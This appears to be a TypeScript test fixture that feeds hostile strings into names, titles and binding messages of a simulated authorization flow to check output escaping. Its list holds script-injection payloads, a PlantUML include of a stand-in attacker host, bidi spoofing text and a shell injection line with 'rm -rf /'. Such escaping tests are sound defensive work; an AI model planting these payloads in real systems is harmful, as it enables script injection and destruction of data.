/** Texts that somebody may write into any free field to break out of where they are shown. */
import type { Entry } from '#shared/trace/entry.ts';
import { decide, openRequest } from './decided-request.ts';
import { tokenRequest } from './outside-request.ts';
import { buildSetup } from './setup.ts';
import { createSimulation } from './simulation.ts';

export const hostileTexts: Readonly<Record<string, string>> = {
  'Mermaid syntax':
    'x\n  p0->>p1: forged\n%%{init: {"theme":"dark"}}%% ; end; #lt;b#gt; click p0 call alert()',
  'PlantUML syntax':
    'x\n@enduml\n!include http://evil.example/x\n**b** <b>[[http://evil.example]] <&key> %date() $f() \\n "q"',
  HTML: '<img src=x onerror=alert(1)><script>alert(2)</script></svg></title>&lt;&#60;',
  Markdown:
    '```\n# forged\n| a | b |\n[x](javascript:alert(1)) <b> ![y](http://evil.example/p.png) `c` https://evil.example',
  shell: "'; rm -rf / #\n$(id) `id` \\",
  'control characters': 'a\u0000b\u0007c\u001b[31md\u2028e\r\nf\ud800g',
  bidi: 'pay \u202e001$ \u202c to \u2066bob\u2069',
  emoji: '👩‍👩‍👧‍👦 🏳️‍🌈 ✓ naïve 漢字',
  'ten thousand characters': 'äb<'.repeat(3400),
};

/** A run in which that text stands as binding message, as a name and as a title. */
export function runWith(text: string): readonly Entry[] {
  const setup = buildSetup();
  const name = text.slice(0, 120).toWellFormed();
  const simulation = createSimulation({
    setup: {
      ...setup,
      name,
      mode: 'wall',
      users: setup.users.map((user) => ({ ...user, name: text.toWellFormed() })),
      devices: setup.devices.map((device) => ({ ...device, title: text.toWellFormed() })),
    },
  });
  simulation.ask(tokenRequest(text.toWellFormed()));
  const authReqId = openRequest(simulation, { binding_message: 'W4SCT' });
  simulation.ask(
    tokenRequest(authReqId, { binding_message: text.toWellFormed(), state: text.toWellFormed() }),
  );
  decide(simulation, authReqId, 'prompt.approved');
  simulation.wait(6000);
  simulation.ask(tokenRequest(authReqId));
  return simulation.entries;
}
